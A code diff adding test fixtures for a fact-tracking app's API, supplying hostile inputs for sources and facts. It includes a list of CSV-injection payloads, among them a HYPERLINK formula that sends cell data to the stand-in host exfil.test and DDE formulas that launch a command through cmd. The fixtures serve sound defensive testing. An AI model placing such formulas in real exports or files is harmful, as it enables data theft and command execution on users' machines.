@@ -57,3 +57,36 @@ export function hostileStoryFields(texts: readonly string[]): MethodInput<'creat
     body: bodyOf(texts),
   };
 }
+
+/** Cells a spreadsheet would run as formulas (CSV injection), as a fact's words. */
+export const FORMULA_TEXTS = [
+  `=HYPERLINK("https://exfil.test/csv?"&A1,"Click")`,
+  `+cmd|' /C calc'!A0`,
+  `-2+3+cmd|' /C calc'!A0`,
+  `@SUM(1+1)*cmd|' /C calc'!A0`,
+  `\t=1+1`,
+  `\r=1+1`,
+];
+
+/** Sources whose every field holds a payload as words, and whose address is a web address full of markup. */
+export function hostileSources(texts: readonly string[]): Array<MethodInput<'createSource'>> {
+  return HOSTILE_HTTP_URLS.map((url, index) => ({
+    kind: 'web' as const,
+    title: cut(texts[index % texts.length]!, 1000) || 'Source',
+    url,
+    publisher: cut(texts[(index + 1) % texts.length]!, 300),
+    notes: cut(texts[(index + 2) % texts.length]!, 20_000),
+  }));
+}
+
+/** Facts (for createFact, without the story) whose text, context, attribution and note are payloads or formulas. */
+export function hostileFacts(texts: readonly string[]): Array<Omit<MethodInput<'createFact'>, 'storyId'>> {
+  const kinds = ['claim', 'quote', 'figure', 'date', 'person', 'organisation', 'place'] as const;
+  return [...FORMULA_TEXTS, ...texts].map((text, index) => ({
+    kind: kinds[index % kinds.length]!,
+    text: cut(text.trim() ? text : `fact ${index}`, 5000),
+    context: cut(texts[(index + 1) % texts.length]!, 3000),
+    attribution: cut(FORMULA_TEXTS[index % FORMULA_TEXTS.length]!, 300),
+    note: cut(texts[(index + 3) % texts.length]!, 5000),
+  }));
+}
